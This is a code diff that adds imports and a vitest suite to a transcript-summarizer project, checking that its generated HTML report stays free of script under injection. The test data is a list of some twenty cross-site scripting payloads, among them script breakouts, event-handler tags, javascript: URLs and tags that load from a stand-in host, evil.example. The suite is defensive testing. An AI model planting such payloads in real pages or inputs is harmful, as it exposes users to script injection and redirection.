@@ -7,7 +7,11 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { buildSummaryPrompt, extractiveSummary, planCompaction, renderTranscript, summarizeWith, type SummaryContext } from "../src/index.js";
+import { htmlReport } from "../src/cli/html-report.js";
+import { inspectTranscript, planOptionsOf } from "../src/cli/inspect.js";
+import { messageEntries } from "../src/cli/message-parts.js";
 import { countWordPieces, messageWordPieces } from "../src/counting/word-pieces.js";
+import { findToolPairProblems } from "../src/index.js";
 import { redactSecrets } from "../src/text/redact-secrets.js";
 import { shortenJson } from "../src/text/shorten-json.js";
 
@@ -226,5 +230,42 @@ describe("tool output cannot pose as the user in the summarizer's prompt", () =>
   it.each(["<transcripts>", "a < b and c > d", "< instructor", "\uff1cnote\uff1e", "<\u0442able>"])("text that is no fence stays as it is: %s", (text) => {
     const { user: prompt } = buildSummaryPrompt([user(text)], { previousSummary: undefined, instructions: undefined });
     expect(prompt).toContain(text);
+  });
+});
+
+describe("the HTML report stays script-free under injection shapes", () => {
+  const shapes = [
+    "</script><script>alert(1)</script>",
+    "</SCRIPT ><script>alert(1)</script >",
+    "<!--<script>alert(1)//-->",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    '<base href="https://evil.example/">',
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>body{background:url(https://evil.example)}</style>",
+    "javascript:alert(1)",
+    "\u2028alert(1)\u2029",
+    "</scr<script>ipt>alert(1)</script>",
+    "<script/src=https://evil.example/x.js></script>",
+    "\\u003c/script\\u003e",
+    "]]><script>alert(1)</script>",
+    "${alert(1)}`",
+    "'-alert(1)-'\"-alert(1)-\"",
+    "<template><script>alert(1)</script></template>",
+    "<object data=javascript:alert(1)>",
+  ];
+
+  it.each(shapes)("%s", (shape) => {
+    const messages = [user(shape), call(shape, { [shape]: shape }), result(shape, shape), assistant(shape)];
+    const options = { maxTokens: 50 };
+    const page = htmlReport(inspectTranscript(`${shape}.json`, messages, options), messageEntries(messages, findToolPairProblems(messages), planOptionsOf(options)));
+    expect(page.split(/<script/i).length - 1).toBe(2);
+    expect(page.split(/<\/script/i).length - 1).toBe(2);
+    const data = page.slice(page.indexOf('id="report-data">') + 17, page.indexOf("</script>"));
+    expect(data).not.toMatch(/[<\u2028\u2029]/);
+    // Outside the data block (where markup is inert JSON text), no tag has an attribute that fetches.
+    expect(page.replace(data, "")).not.toMatch(/<[a-z][^<>]*\b(?:src|href|data|srcdoc)=/i);
   });
 });
